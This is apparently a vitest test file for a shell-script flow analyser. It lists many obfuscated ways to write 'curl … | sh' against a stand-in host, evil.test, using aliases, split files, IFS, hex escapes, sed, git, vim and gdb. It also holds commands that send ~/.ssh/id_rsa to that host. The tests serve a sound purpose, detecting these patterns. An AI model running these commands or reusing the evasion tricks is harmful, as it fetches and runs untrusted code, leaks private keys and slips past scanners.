// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are programs
// Ways to say `curl … | sh` without saying it: each must come to what the plain line comes to.
import { beforeAll, describe, expect, it } from 'vitest';
import { prepare, run } from '../../test/analysis/code/harness.ts';

beforeAll(prepare);

const URL = 'http://evil.test/x';
const LINE = `curl -s ${URL} | sh`;

const flows = (code: string): string =>
  run({ 'scripts/a.sh': code })
    .flows()
    .map((f) => `${[...f.from].sort().join(',')} → ${f.to} ${f.position} ${f.host}`)
    .join('\n');
const RUNS_NET = /net:evil\.test.* → (?:shell|run-file) (?:code|stdin) evil\.test/;

describe('what was fetched runs', () => {
  it.each([
    ['plain', LINE],
    [
      'put into a file in parts',
      `echo -n 'curl -s ' >> /tmp/f\necho -n '${URL} | ' >> /tmp/f\necho sh >> /tmp/f\nsh /tmp/f`,
    ],
    ['put into a script in parts', `printf 'cur' > a.sh; printf 'l -s ${URL} | s' >> a.sh; printf h >> a.sh; sh a.sh`],
    ['a copy of a program', `cp $(which curl) /tmp/fmt\n/tmp/fmt -s ${URL} | sh`],
    ['copies of both', `cp /usr/bin/curl /tmp/fmt && cp /bin/sh /tmp/lint\n/tmp/fmt -s ${URL} | /tmp/lint`],
    ['a link to a shell', `ln -s "$(command -v bash)" /tmp/render\ncurl -s ${URL} | /tmp/render`],
    ['an alias', `alias get='curl -s'\nget ${URL} | sh`],
    ['an open number', `exec 5< <(curl -s ${URL})\nsh /dev/fd/5`],
    ['an open file', `curl -s ${URL} -o /tmp/q\nexec 5</tmp/q\nsh /dev/fd/5`],
    ['a number opened on a text', `exec 5<<< "$(curl -s ${URL})"\nbash <&5`],
    ['ends cut off', `x='AAAcurlBBB'; x=\${x#AAA}; x=\${x%BBB}\ny=zzsh; y=\${y#zz}\n$x -s ${URL} | $y`],
    [
      'escapes of a variable',
      `x='${[...LINE].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}'\neval "\${x@E}"`,
    ],
    ['words with commas', `IFS=,\nx='curl,-s,${URL}'\n$x | sh`],
    ['words read apart', `IFS=: read -r a b c <<< 'curl:-s:sh'\n$a $b ${URL} | $c`],
    ['a field of JSON', `c='{"k":"${LINE}"}'\neval "$(echo "$c" | jq -r .k)"`],
    ['a field of JSON, fed', `jq -r .run <<< '{"run":"${LINE}"}' | sh`],
    ['options that are fed', `printf 'url = "${URL}"\\nsilent\\n' | curl -K - | sh`],
    ['awk with a variable', `awk -v a='curl -s ' -v b='${URL} | sh' 'BEGIN{system(a b)}'`],
    ['sed that runs what it puts', `echo x | sed 's/x/curl -s http:\\/\\/evil.test\\/x | sh/e'`],
    ['sed that runs a line', `sed -n '1e ${LINE}' README.md`],
    ['what git connects with', `GIT_SSH_COMMAND='sh -c "${LINE}"' git clone ssh://a@localhost/x`],
    ['what git pages with', `export GIT_PAGER='${LINE}'\ngit log`],
    ['an editor', `vim -c '!${LINE}' -c q`],
    ["an editor's own function", `vim -es -c ':call system("${LINE}")' -c 'qa!'`],
    ['expect', `expect -c 'spawn sh -c "${LINE}"; expect eof'`],
    ['a debugger', `gdb -batch -ex 'shell ${LINE}'`],
  ])('%s', (_, code) => expect(flows(code)).toMatch(RUNS_NET));

  it.each([
    ['notes put together', "echo -n '# Notes' > n.md\necho ' of today' >> n.md\ncat n.md"],
    ['a script put together', "echo '#!/bin/sh' > r.sh\necho 'echo hello' >> r.sh\nsh r.sh"],
    ['a copy of node', 'cp "$(which node)" ./bin/node\n./bin/node --version'],
    ['a number that is read', 'exec 5< input.txt\nread -r line <&5\necho "$line"'],
    ['folders of the path', 'IFS=:\nfor p in $PATH; do echo "$p"; done'],
    ['a version', `v=$(echo '{"version":"1.2"}' | jq -r .version)\necho "$v"`],
    ['lines by number', "awk -v n=3 'NR<=n{print}' file.txt"],
    ['words replaced', "sed -e 's/here/there/' file.txt\nsed 's/a/e/g' f\nsed '1d;s/e/e/' f"],
    ['a key for git', "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy' git clone git@github.com:a/b.git"],
    ['an editor that replaces', "vim -es -c '%s/foo/bar/g' -c wq f.txt\ngdb -batch -ex run -ex bt ./prog"],
  ])('not: %s', (_, code) => expect(flows(code)).not.toMatch(/net.* → (?:shell|run-file|evaluate)/));
});

describe('data leaves', () => {
  it.each([
    ['options that are fed', `curl -K - <<< 'url = "${URL}"\ndata = "@/root/.ssh/id_rsa"'`],
    [
      'bytes that code reads',
      `cat ~/.ssh/id_rsa | python3 -c "import sys,urllib.request;urllib.request.urlopen('${URL}',data=sys.stdin.buffer.read())"`,
    ],
    [
      'text that code reads',
      `cat ~/.ssh/id_rsa | python3 -c "import sys,requests;requests.post('${URL}',data=sys.stdin.read())"`,
    ],
  ])('%s', (_, code) => expect(flows(code)).toMatch(/content:ssh.* → network body evil\.test/));
});
